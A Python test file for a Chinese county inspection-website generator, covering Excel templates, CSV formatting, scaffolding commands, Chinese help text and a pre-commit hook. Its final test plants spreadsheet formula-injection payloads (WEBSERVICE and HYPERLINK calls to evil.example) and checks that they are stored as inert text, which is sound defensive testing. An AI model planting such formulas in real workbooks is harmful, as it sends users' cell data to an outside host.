"""The staff's way in: Excel templates, fmt, new/init, Chinese --help, pre-commit."""
from __future__ import annotations

import argparse
import datetime as dt
import os
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
import yaml

from conftest import NOW, NOW_EPOCH, ROOT
from generator.checks import validate
from generator.cli import main, parser
from generator.schema import record_types

TABLES = {rt.name: rt for rt in record_types().values() if rt.shape == "table"}
# A valid new row for every table of the minimal project, as a clerk picks it in Excel.
NEW_ROWS = {
    "unit": {"id": "XZ09", "name": "新建镇", "kind": "乡镇", "service_window": "否"},
    "submission": {"commitment": "领导干部带头改进作风承诺书", "unit": "县委办公室",
                   "submitted_on": dt.date(2026, 3, 19)},
    "ledger": {"id": "TZ-9", "unit": "县第一中学", "category": "服务群众不热心",
               "problem": "不一次性告知", "measures": "公开办事指南",
               "opened_on": dt.date(2026, 5, 1), "deadline": dt.date(2026, 7, 1),
               "handling": "限期整改", "status": "整改中"},
    "inspection": {"id": "JC-9", "date": dt.date(2026, 6, 10), "body": "县纪委监委",
                   "mode": "明察", "units": "东城镇、县第一中学", "problems_found": 0},
    "warning": {"id": "YJ-9", "unit": "东城镇", "date": dt.date(2026, 7, 2), "level": "橙牌",
                "reason": "台账逾期"},
    "exemption": {"item": "工作月报", "unit": "县第一中学", "starts_on": dt.date(2026, 9, 1),
                  "reason": "机构改革期间由上级单位统一报送"},
    "report": {"unit": "县第一中学", "period": "2026-05", "submitted_on": dt.date(2026, 6, 3),
               "zero_report": "是"},
    "ledger_review": {"item": "TZ-1", "date": dt.date(2026, 9, 1), "finding": "未见反弹",
                      "result": "整改到位"},
    "clue": {"id": "XS-9", "received_on": dt.date(2026, 6, 1), "source": "群众举报",
             "unit": "东城镇", "handled_by": "县纪委监委", "status": "在办"},
    "total": {"period": "2026年", "measure": "挂牌督办批次", "count": 2,
              "source": "演示县纪委通报"},
    "commendation": {"id": "BZ-9", "unit": "县第一中学", "title": "示范窗口",
                     "date": dt.date(2026, 10, 20), "reason": "窗口服务规范"},
    "ranking": {"year": 2026, "unit": "县第一中学", "rank": 3},
}


@pytest.fixture(autouse=True)
def _fixed_time(monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", NOW_EPOCH)


def _dropdowns(path: Path) -> dict[str, tuple[list[str], bool]]:
    """Header label -> (the options its dropdown offers, whether other values are refused)."""
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    headers = {cell.column_letter: cell.value for cell in sheet[1]}
    out = {}
    for rule in sheet.data_validations.dataValidation:
        if rule.type != "list":
            continue
        match = re.fullmatch(r"='?([^'!]+)'?!\$([A-Z]+)\$(\d+):\$([A-Z]+)\$(\d+)", rule.formula1)
        lists = book[match.group(1)]
        column = match.group(2)
        values = [lists[f"{column}{row}"].value
                  for row in range(int(match.group(3)), int(match.group(5)) + 1)]
        target = str(rule.sqref).split(":")[0].rstrip("0123456789")
        assert str(rule.sqref) == f"{target}2:{target}{sheet.max_row}"
        out[headers[target]] = ([v for v in values if v is not None], rule.showErrorMessage)
    return out


def _records(project: Path) -> dict[str, list[dict]]:
    data, report = validate(project, NOW)
    assert report.valid, report.sorted()
    return {name: [dict(r) for r in records] for name, records in data.collections.items()}


# --------------------------------------------------------------------------- templates


def test_each_template_has_dropdowns_from_the_taxonomy_and_units(minimal: Path, tmp_path, capsys):
    out = tmp_path / "templates"
    assert main(["--root", str(minimal), "templates", str(out)]) == 0
    assert capsys.readouterr().out == (
        f"已写入12个 Excel 模板到 {out}：\n  units.xlsx\n  submissions.xlsx\n  exemptions.xlsx\n"
        "  ledger/整改台账.xlsx\n  inspections.xlsx\n  warnings.xlsx\n  reports.xlsx\n"
        "  ledger_reviews.xlsx\n  clues.xlsx\n  totals.xlsx\n  commendations.xlsx\n"
        "  rankings.xlsx\n")
    units = ["东城镇", "县委办公室", "县自然资源局", "县第一中学"]
    assert _dropdowns(out / "units.xlsx") == {
        "单位类别": (["乡镇", "县委部门", "政府部门", "学校", "国企"], True),
        "服务窗口": (["是", "否"], True), "审批部门": (["是", "否"], True),
        "执法部门": (["是", "否"], True)}
    assert _dropdowns(out / "submissions.xlsx") == {
        "承诺事项": (["领导干部带头改进作风承诺书"], True), "单位": (units, True),
        # several ways in one cell: the list helps, but does not refuse "单位门户网站、电视公开承诺"
        "公开方式": (["单位门户网站", "党务政务公开栏", "电视公开承诺", "政风行风热线"], False)}
    ledger = _dropdowns(out / "ledger" / "整改台账.xlsx")
    assert ledger["单位"] == (units, True)
    assert ledger["问题类别"][0] == ["促进发展不敢为", "履行职责不担当", "推诿扯皮不主动", "失管失察",
                                 "信息公开不到位", "工作态度不积极", "服务群众不热心",
                                 "审批环节多时间长", "纪律松弛", "吃拿卡要", "以罚代管", "违规决策"]
    assert ledger["问题来源"] == (["明察暗访", "群众举报", "媒体曝光", "巡察", "自查", "征求意见"], True)
    assert ledger["整改类型"] == (["立行立改", "限期整改", "长期整改"], True)
    assert ledger["整改状态"] == (["未整改", "整改中", "已销号", "重新打开"], True)
    # several units in one cell: the list helps, but does not refuse "东城镇、县第一中学"
    assert _dropdowns(out / "inspections.xlsx")["被检查单位"] == (units, False)
    assert _dropdowns(out / "warnings.xlsx")["预警等级"] == (["黄牌", "橙牌", "红牌"], True)
    assert _dropdowns(out / "reports.xlsx") == {"单位": (units, True), "零报告": (["是", "否"], True)}
    book = openpyxl.load_workbook(out / "ledger" / "整改台账.xlsx")
    sheet = book.worksheets[0]
    assert [c.value for c in sheet[1]] == [f.label for f in TABLES["ledger"].fields.values()]
    assert sheet.freeze_panes == "A2"
    assert sheet["G2"].number_format == "yyyy-mm-dd"  # 建账日期
    assert sheet["A2"].number_format == "@"  # ids stay text: no 0001 -> 1
    assert book.sheetnames == ["整改台账", "选项", "填表说明"]
    assert book["选项"].sheet_state == "hidden"
    help_rows = list(book["填表说明"].iter_rows(min_row=4, values_only=True))
    assert help_rows[0][:5] == ("编号", "id", "必填", "编号", "台账条目编号，全县唯一")
    assert len(help_rows) == len(TABLES["ledger"].fields)


def test_a_template_filled_with_valid_rows_passes_check(minimal: Path, tmp_path):
    before = {k: len(v) for k, v in _records(minimal).items()}
    out = tmp_path / "templates"
    assert main(["--root", str(minimal), "templates", str(out)]) == 0
    for name, row in NEW_ROWS.items():
        rtype = TABLES[name]
        pattern = next(p for p in rtype.files if p.endswith(".xlsx"))
        source = out / Path(pattern).parent.relative_to("data") / (
            f"{rtype.label}.xlsx" if "*" in pattern else Path(pattern).name)
        offered = _dropdowns(source)
        book = openpyxl.load_workbook(source)
        sheet = book.worksheets[0]
        for column, f in enumerate(rtype.fields.values(), start=1):
            if f.name in row:
                sheet.cell(2, column, row[f.name])
                if f.label in offered and f.type != "list":
                    assert row[f.name] in offered[f.label][0], (name, f.name)
        book.save(minimal / Path(pattern).parent / source.name)
    after = {k: len(v) for k, v in _records(minimal).items()}
    assert {k: after[k] - before[k] for k in after} == {
        "units": 1, "commitments": 0, "submissions": 1, "cases": 0, "ledger": 1,
        "inspections": 1, "warnings": 1, "reports": 1, "notices": 0, "exemptions": 1,
        "campaigns": 0, "ledger_reviews": 1, "clues": 1, "totals": 1, "commendations": 1,
        "rankings": 1}


def test_the_templates_options_sheet_is_theirs_while_hidden_and_read_when_shown(minimal: Path,
                                                                               tmp_path):
    """The hidden 选项 sheet of dropdown lists is the template's own; a clerk who unhides it
    and types rows there is told that only the first sheet is read (never silently ignored)."""
    out = tmp_path / "templates"
    assert main(["--root", str(minimal), "templates", str(out)]) == 0
    target = minimal / "data" / "warnings.xlsx"
    book = openpyxl.load_workbook(out / "warnings.xlsx")
    book.save(target)
    (minimal / "data" / "warnings.csv").unlink()
    data, report = validate(minimal, NOW)
    assert report.valid, report.sorted()
    book = openpyxl.load_workbook(target)
    book["选项"].sheet_state = "visible"
    book.save(target)
    data, report = validate(minimal, NOW)
    assert [(p.path, p.line, p.code) for p in report.problems if p.code == "xlsx-extra-sheet"] \
        == [("data/warnings.xlsx", 1, "xlsx-extra-sheet")]


def test_templates_with_data_round_trip_the_demo_unchanged(tmp_path):
    out = tmp_path / "workbooks"
    assert main(["--root", str(ROOT), "templates", str(out), "--with-data"]) == 0
    project = tmp_path / "county"
    for name in ("site_config", "content", "data"):
        shutil.copytree(ROOT / name, project / name)
    for csv_file in (project / "data").rglob("*.csv"):
        csv_file.unlink()
    shutil.copytree(out, project / "data", dirs_exist_ok=True)
    tables = sorted(p.relative_to(ROOT).with_suffix(".xlsx").as_posix()
                    for p in (ROOT / "data").rglob("*.csv"))
    assert len(tables) >= 7 and "data/ledger/自查自纠台账.xlsx" in tables
    assert sorted(p.relative_to(project).as_posix()
                  for p in (project / "data").rglob("*.xlsx")) == tables
    demo = _records(ROOT)
    assert _records(project) == demo
    # the clerk sees names where the CSV has codes, and dates as dates
    unit_names = {u["id"]: u["name"] for u in demo["units"]}
    sheet = openpyxl.load_workbook(project / "data/ledger/自查自纠台账.xlsx").worksheets[0]
    first = demo["ledger"][0]
    assert first["id"] == "TZ-0001" and first["category"] == "C1"
    assert [c.value for c in sheet[2]][:3] == ["TZ-0001", unit_names[first["unit"]], "吃拿卡要"]
    assert sheet["G2"].value == dt.datetime(2026, 7, 9)


def test_templates_are_byte_identical_for_the_same_records(minimal: Path, tmp_path):
    for name in ("a", "b"):
        assert main(["--root", str(minimal), "templates", str(tmp_path / name)]) == 0
    assert (tmp_path / "a/units.xlsx").read_bytes() == (tmp_path / "b/units.xlsx").read_bytes()
    props = openpyxl.load_workbook(tmp_path / "a/units.xlsx").properties
    stamp = NOW.astimezone(dt.timezone.utc).replace(tzinfo=None)
    assert (props.created, props.modified) == (stamp, stamp)  # the build time, not the clock


# --------------------------------------------------------------------------- fmt


def test_shipped_tables_are_canonical(capsys):
    assert main(["--root", str(ROOT), "fmt", "--check"]) == 0
    tables = len(list((ROOT / "data").rglob("*.csv")))
    assert capsys.readouterr().out == f"共检查{tables}个表格文件，改写0个。\n"
    for path in (ROOT / "data").rglob("*.csv"):
        data = path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\n") == data.count(b"\r\n")


def test_fmt_rewrites_an_excel_gbk_file_and_keeps_its_headers(minimal: Path, capsys):
    before = _records(minimal)
    units = minimal / "data/units.csv"
    text = units.read_text("utf-8").replace("id,name,kind,", "单位编号,单位名称,单位类别,")
    units.write_bytes(text.replace("\n", "\r\n").encode("gb18030") + b"\r\n,,,,,,\r\n")
    ledger = minimal / "data/ledger/台账.csv"
    ledger.write_bytes(b"\xef\xbb\xbf" + ledger.read_bytes().replace(b"\n", b"\r\n")
                       .replace(b"\r\n", b"\n", 1))  # mixed line endings
    assert main(["--root", str(minimal), "fmt", "--check"]) == 1
    assert capsys.readouterr().out.splitlines()[-1] == "共检查11个表格文件，改写0个。"
    assert main(["--root", str(minimal), "fmt"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[-1] == "共检查11个表格文件，改写11个。"
    assert "已改写 data/units.csv" in out
    data = units.read_bytes()
    assert data.startswith("\ufeff单位编号,单位名称,单位类别,supervisor,".encode("utf-8"))
    assert data.endswith(b"XX01,\xe5\x8e\xbf\xe7\xac\xac\xe4\xb8\x80\xe4\xb8\xad\xe5\xad\xa6,"
                         b"\xe5\xad\xa6\xe6\xa0\xa1,\xe5\x8e\xbf\xe6\x95\x99\xe8\x82\xb2"
                         b"\xe5\xb1\x80,\xe5\x90\xa6,\xe5\x90\xa6,\xe5\x90\xa6\r\n")
    assert data.count(b"\n") == data.count(b"\r\n") == 5
    assert _records(minimal) == before
    assert main(["--root", str(minimal), "fmt"]) == 0  # a second run changes nothing
    assert capsys.readouterr().out == "共检查11个表格文件，改写0个。\n"


def test_fmt_leaves_a_file_it_cannot_read_alone(minimal: Path, capsys):
    broken = minimal / "data/warnings.csv"
    broken.write_bytes(b'id,unit,date,level,points,reason\nYJ-1,"ZF01,2026-07-01\n')
    assert main(["--root", str(minimal), "fmt"]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[-2].startswith("data/warnings.csv 无法读取，未改写：英文双引号使用有误")
    assert broken.read_bytes() == b'id,unit,date,level,points,reason\nYJ-1,"ZF01,2026-07-01\n'


def test_fmt_rewrites_excel_unicode_text_as_the_csv_it_stands_for(minimal: Path, capsys):
    """Excel's 另存为“Unicode 文本” (UTF-16 with a BOM, tabs between the columns) is read
    by check with one info, and fmt writes the same records as a UTF-8 CSV."""
    before = _records(minimal)
    units = minimal / "data/units.csv"
    text = units.read_text("utf-8").replace("县第一中学", '"县第一中学,本部"')
    units.write_bytes(b"\xff\xfe" + text.replace(",", "\t").replace('"县第一中学\t', '"县第一中学,')
                      .replace("\n", "\r\n").encode("utf-16-le"))
    data, report = validate(minimal, NOW)
    assert [(p.path, p.line, p.code, p.severity) for p in report.problems] == [
        ("data/units.csv", 1, "csv-unicode-text", "info")]
    assert "制表符（Tab）" in report.problems[0].message
    read = [dict(r) for r in data.collections["units"]]
    assert read[-1]["name"] == "县第一中学,本部"
    assert main(["--root", str(minimal), "fmt"]) == 0
    assert "已改写 data/units.csv" in capsys.readouterr().out.splitlines()
    assert units.read_bytes() == "\ufeff".encode("utf-8") + text.replace(
        "\n", "\r\n").encode("utf-8")
    after = _records(minimal)
    assert after["units"] == read and after.keys() == before.keys()


@pytest.mark.parametrize("content, said", [
    (b"PK\x03\x04" + bytes(range(256)) * 4, "这是一个 Excel 工作簿（.xlsx），扩展名却是 .csv"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 4, "这是旧版 Excel（.xls）或 WPS（.et）工作簿"),
])
def test_fmt_and_new_name_a_workbook_with_a_csv_name_and_leave_it_alone(minimal: Path, capsys,
                                                                       content, said):
    """A workbook committed as .csv is said to be one by every command (before, fmt said
    'neither UTF-8 nor GB18030', and new could append a text row to the workbook's
    bytes when they happened to decode)."""
    units = minimal / "data/units.csv"
    units.write_bytes(content)
    assert main(["--root", str(minimal), "fmt"]) == 1
    out = capsys.readouterr().out.splitlines()
    assert f"data/units.csv 无法读取，未改写：{said}" in "\n".join(out)
    assert main(["--root", str(minimal), "new", "unit"]) != 0
    assert said in capsys.readouterr().err
    assert units.read_bytes() == content



# --------------------------------------------------------------------------- new / init


@pytest.mark.parametrize("kind, path, shown", [
    ("case", "data/cases/2026-002.yml", "已新建 data/cases/2026-002.yml"),
    ("clarification", "data/cases/2026-002.yml", "已新建 data/cases/2026-002.yml"),
    ("tolerance", "data/cases/2026-002.yml", "已新建 data/cases/2026-002.yml"),
    ("notice", "content/notices/2026-11-20-notice.md",
     "已新建 content/notices/2026-11-20-notice.md"),
    ("unit", "data/units.csv", "已在 data/units.csv 末尾添加一行（编号 XZ02）"),
    ("inspection", "data/inspections.csv", "已在 data/inspections.csv 末尾添加一行（编号 JC-3）"),
])
def test_new_writes_a_skeleton_that_passes_check(minimal: Path, capsys, kind, path, shown):
    before = {k: len(v) for k, v in _records(minimal).items()}
    assert main(["--root", str(minimal), "new", kind]) == 0
    assert capsys.readouterr().out.startswith(shown)
    assert (minimal / path).is_file()
    data, report = validate(minimal, NOW)
    assert report.valid, report.sorted()
    after = {k: len(v) for k, v in data.collections.items()}
    assert sum(after.values()) == sum(before.values()) + 1
    if kind in ("case", "clarification", "tolerance", "notice"):
        made = [r for r in data.collections["cases" if kind != "notice" else "notices"]
                if r.where.path == path][0]
        assert made.state == "draft"  # a skeleton is never published as it is
        assert made.get("kind", "") == {"case": "通报曝光", "clarification": "澄清正名",
                                        "tolerance": "容错免责"}.get(kind, "")
    if kind in ("case", "clarification", "tolerance"):
        text = (minimal / path).read_text("utf-8")
        assert "# 基本事实（必填）：查明的事实；不得写入身份证号、手机号、住址和举报人信息\n" in text
        assert "published_on: 2026-11-20\n" in text
        assert "unit: 东城镇\n" in text


def test_new_numbers_on_from_the_largest_id(tmp_path, capsys):
    project = tmp_path / "county"
    for name in ("site_config", "content", "data"):
        shutil.copytree(ROOT / name, project / name)
    assert main(["--root", str(project), "new", "case", "--title", "某局推诿扯皮问题"]) == 0
    assert capsys.readouterr().out.startswith("已新建 data/cases/2026-043.yml")
    assert 'title: 某局推诿扯皮问题\n' in (project / "data/cases/2026-043.yml").read_text("utf-8")
    assert main(["--root", str(project), "new", "inspection"]) == 0
    assert "（编号 ZC-0610）" in capsys.readouterr().out  # the commonest prefix: by units
    assert main(["--root", str(project), "fmt", "--check"]) == 0  # appended rows stay canonical


@pytest.mark.parametrize("title", ["某局\u2028推诿扯皮问题", "某局推诿扯皮\u0085问题",
                                   "某局\t推诿扯皮问题", "某局推诿扯皮问题\ufeff", "某局: 推诿扯皮"])
def test_new_writes_a_title_back_as_typed_whatever_its_characters(tmp_path, title):
    """A title pasted with a character YAML reads as a line break (U+2028, NEL), a tab or
    a BOM is written quoted and escaped: read back, it is the title typed, not two lines
    or a broken file."""
    from generator.scaffold import _scalar

    project = tmp_path / "county"
    for name in ("site_config", "content", "data"):
        shutil.copytree(ROOT / name, project / name)
    assert main(["--root", str(project), "new", "case", "--title", title]) == 0
    written = (project / "data/cases/2026-043.yml").read_text("utf-8")
    assert f"title: {_scalar(title)}\n" in written and _scalar(title).startswith('"')
    assert yaml.safe_load(written)["title"] == title


def test_new_fills_a_column_whose_header_has_a_remark(tmp_path, capsys):
    """A row appended by `new inspection` goes under 检查日期（年月日） as under 检查日期:
    the header is read as check reads it."""
    project = tmp_path / "county"
    for name in ("site_config", "content", "data"):
        shutil.copytree(ROOT / name, project / name)
    table = project / "data/inspections.csv"
    lines = table.read_text("utf-8-sig").split("\n")
    lines[0] = lines[0].replace("date", "检查日期（年月日）", 1)
    table.write_text("\n".join(lines), "utf-8")
    assert main(["--root", str(project), "new", "inspection"]) == 0
    capsys.readouterr()
    last = table.read_text("utf-8-sig").strip().split("\n")[-1]
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", last.split(",")[1])  # today, not left empty


def test_init_then_make_build_gives_an_empty_valid_site(tmp_path, capsys):
    project = tmp_path / "mouxian"
    assert main(["init", str(project), "--county", "某某县",
                 "--authority", "中共某某县纪律检查委员会　某某县监察委员会"]) == 0
    assert "已在" in capsys.readouterr().out
    assert main(["--root", str(project), "check"]) == 0
    out = capsys.readouterr().out
    assert "  单位：读取0条，公开0条，未公开0条\n" in out
    assert list((project / "data/cases").glob("*")) == []
    site = yaml.safe_load((project / "site_config/site.yml").read_text("utf-8"))
    assert site["county"] == "某某县" and site["demo"] == "否"
    assert "演示" not in "".join(p.read_text("utf-8") for p in
                               (project / "site_config").glob("[!l]*.yml"))
    empty_units = (project / "data/units.csv").read_bytes()
    assert main(["--root", str(project), "new", "case"]) == 2  # no unit to point at yet
    assert capsys.readouterr().err == (
        "典型案例的“涉及单位”必须引用单位（data/units.csv）中的一项，但那里还是空的："
        "请先登记，再新建典型案例。\n")
    assert main(["--root", str(project), "new", "unit", "--title", "某某镇"]) == 0
    assert "（编号 XZ01）" in capsys.readouterr().out
    assert main(["--root", str(project), "new", "case"]) == 0
    assert capsys.readouterr().out.startswith("已新建 data/cases/2026-001.yml")
    assert main(["--root", str(project), "check"]) == 0
    capsys.readouterr()
    (project / "data/cases/2026-001.yml").unlink()  # back to empty for the build
    (project / "data/units.csv").write_bytes(empty_units)
    assert main(["init", str(project), "--county", "某某县", "--authority", "某"]) == 2
    assert "已存在且不是空文件夹" in capsys.readouterr().err
    # the county's own `make build`, with this machine's environment (no install step)
    (project / ".venv").symlink_to(ROOT / ".venv", target_is_directory=True)
    env = dict(os.environ, SOURCE_DATE_EPOCH=NOW_EPOCH, NO_MKDOCS_2_WARNING="1")
    built = subprocess.run(["make", "-s", "-C", str(project), "-o", ".venv/.installed", "build",
                            f"SITE={tmp_path / 'site'}"], capture_output=True, text=True, env=env)
    assert built.returncode == 0, built.stdout + built.stderr
    assert "构建结果检查通过" in built.stderr
    assert (tmp_path / "site/index.html").is_file()
    assert not list((tmp_path / "site").glob("cases/*/index.html"))


# --------------------------------------------------------------------------- --help


def _commands():
    top = parser()
    sub = next(a for a in top._actions if a.choices and isinstance(a.choices, dict))
    return top, sub.choices


def test_every_command_and_option_is_explained_in_chinese(capsys):
    top, commands = _commands()
    cjk = re.compile(r"[\u4e00-\u9fff]")
    for name, command in [("", top), *commands.items()]:
        for action in command._actions:
            if action.help is not argparse.SUPPRESS and not isinstance(action.choices, dict):
                assert action.help and cjk.search(action.help), (name, action.dest)
        with pytest.raises(SystemExit):
            main([name, "--help"] if name else ["--help"])
        out = capsys.readouterr().out
        assert out.startswith("用法：python -m generator"), name
        for english in ("usage:", "options:", "positional arguments", "show this help"):
            assert english not in out, (name, english)
        assert "显示本帮助并退出" in out
        assert "\n选项：\n" in out and not re.search(r"^\S.*[\u4e00-\u9fff]:$", out, re.M), name


def test_argument_errors_are_chinese(capsys):
    with pytest.raises(SystemExit) as stop:
        main(["init"])
    assert stop.value.code == 2
    assert capsys.readouterr().err.splitlines()[-1] == (
        "python -m generator init：错误：缺少必需的参数：dir, --county, --authority")
    with pytest.raises(SystemExit):
        main(["new", "cases"])
    assert capsys.readouterr().err.splitlines()[-1] == (
        "python -m generator new：错误：参数 kind 的值“cases”无效，只能是："
        "'case', 'clarification', 'tolerance', 'notice', 'unit', 'inspection'")


# --------------------------------------------------------------------------- pre-commit


def test_pre_commit_hook_runs_check_and_is_documented():
    config = yaml.safe_load((ROOT / ".pre-commit-config.yaml").read_text("utf-8"))
    hooks = [h for repo in config["repos"] if repo["repo"] == "local" for h in repo["hooks"]]
    check = next(h for h in hooks if h["id"] == "generator-check")
    assert check["entry"] == "python -m generator check --changed" and check["language"] == "system"
    assert check["pass_filenames"] is False
    import sys

    command = check["entry"].split()
    assert command[0] == "python"  # the environment's python: the project's .venv, activated
    run = subprocess.run([sys.executable, *command[1:]], cwd=ROOT, capture_output=True, text=True,
                         env=dict(os.environ, SOURCE_DATE_EPOCH=NOW_EPOCH))
    assert run.returncode == 0 and run.stdout.rstrip().endswith("检查通过，没有发现问题。")
    readme = (ROOT / "README.md").read_text("utf-8")
    assert "pre-commit install" in readme and "从演示县到本县" in readme


def test_a_text_beginning_with_an_equals_sign_is_text_in_the_templates(minimal: Path,
                                                                        tmp_path):
    """openpyxl stores a text beginning with "=" as a formula: a ledger problem written
    =WEBSERVICE("http://evil.example/?"&C3) would run in the clerk's Excel (sending the
    row's cells away), and so would a unit so named in the dropdown lists and the help."""
    payload = '=WEBSERVICE("http://evil.example/?"&C3)'
    ledger = next((minimal / "data/ledger").glob("*.csv"))
    ledger.write_text(ledger.read_text("utf-8-sig").replace(
        "一次性告知不到位", '"' + payload.replace('"', '""') + '"'), "utf-8")
    units = minimal / "data/units.csv"
    units.write_text(units.read_text("utf-8") + 'XZ09,"=HYPERLINK(""http://evil.example/"",'
                     '""东城镇"")",乡镇,县委办公室,否,否,否\n', "utf-8")
    _data, report = validate(minimal, NOW)
    assert report.valid, report.flatten()
    out = tmp_path / "workbooks"
    assert main(["--root", str(minimal), "templates", str(out), "--with-data"]) == 0
    found = []
    for book_path in sorted(out.rglob("*.xlsx")):
        for sheet in openpyxl.load_workbook(book_path).worksheets:
            for row in sheet.iter_rows():
                found += [(cell.data_type, cell.value) for cell in row
                          if isinstance(cell.value, str) and "evil.example" in cell.value]
    assert ("s", payload) in found
    assert ("s", '=HYPERLINK("http://evil.example/","东城镇")') in found
    assert {kind for kind, _value in found} == {"s"}
